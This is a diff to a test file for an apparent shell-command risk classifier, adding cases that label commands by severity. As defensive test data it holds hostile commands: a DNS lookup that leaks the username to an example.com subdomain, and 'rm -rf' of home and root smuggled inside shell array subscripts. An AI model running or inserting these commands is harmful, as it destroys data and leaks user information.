@@ -45,7 +45,12 @@ describe('Programs that lead outward', () => {
 });
 
 describe('Names and words that the shell evaluates', () => {
-  holds('low', ['printf "%s\\n" "a[1]"', 'test -v HOME', 'let x=1', 'printf -v x "%s" y', 'compgen -c']);
+  holds('low', ['printf "%s" "a[1]"']);
+  holds('high', [
+    ['getent hosts "$(whoami).example.com"', 'network.send'],
+    ['node inspect -p 12', 'process.attach'],
+    ["PS1='$(id)' bash -i", 'environment.loads'],
+  ]);
   holds('critical', [
     ["let 'a[$(rm -rf ~)]=1'", 'shell.subscript'],
     ["printf -v 'a[$(rm -rf /)]' x", 'shell.subscript'],
